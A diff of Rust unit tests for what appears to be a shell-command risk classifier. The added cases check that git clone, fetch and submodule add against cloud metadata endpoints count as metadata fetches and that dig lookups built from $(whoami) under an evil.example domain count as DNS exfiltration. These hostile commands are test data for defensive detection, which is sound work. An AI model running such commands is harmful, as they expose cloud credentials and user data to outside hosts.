@@ -42,6 +42,21 @@ fn the_metadata_service_is_judged_on_fetches_and_sends() {
             bash("timeout 5 curl 169.254.169.254/latest/meta-data/"),
             META,
         ),
+        // A repository fetched from a URL is a fetch of it, whichever git command.
+        (
+            bash("git clone http://169.254.169.254/latest/meta-data/"),
+            META,
+        ),
+        (
+            bash("sudo git -C /tmp fetch --depth 1 http://169.254.169.254/latest/ main"),
+            META,
+        ),
+        (
+            bash("git submodule add http://metadata.google.internal/computeMetadata/v1/ m"),
+            META,
+        ),
+        (bash("git clone https://github.com/o/r.git && cd r"), None),
+        (bash("git pull origin main"), None),
         // Spellings of the address.
         (bash("curl http://2852039166/latest/meta-data/"), META),
         (bash("curl http://0251.0376.0251.0376/latest/"), META),
@@ -199,11 +214,17 @@ fn a_data_built_lookup_is_a_send_of_the_name() {
     assert_eq!(sent.program, "dig");
     assert!(sent.items.contains(&Payload::Name {
         name: "$(whoami).x.evil.example".into(),
-        domain: "x.evil.example".into(),
+        domain: Some("x.evil.example".into()),
     }));
     assert!(sent.sources().any(|s| !s.commands.is_empty()));
     let plain = call_of(&Example::bash("dig +short example.com"), &scope);
     assert!(!plain.effects.iter().any(|e| matches!(e, Fx::Send { .. })));
+    // A name that is all data names no zone of its own: still a send of the name (session
+    // taint's way out), which `dns-exfiltration` leaves to what feeds it.
+    let data = call_of(&Example::bash("D=$(whoami).x.example; dig \"$D\""), &scope);
+    assert!(data.effects.iter().any(|e| matches!(e,
+        Fx::Send { host: None, sent, .. }
+            if sent.items.contains(&Payload::Name { name: "$D".into(), domain: None }))));
 }
 
 const PUSH: Option<(Effect, &str)> = Some((Ask, "push-to-new-remote"));
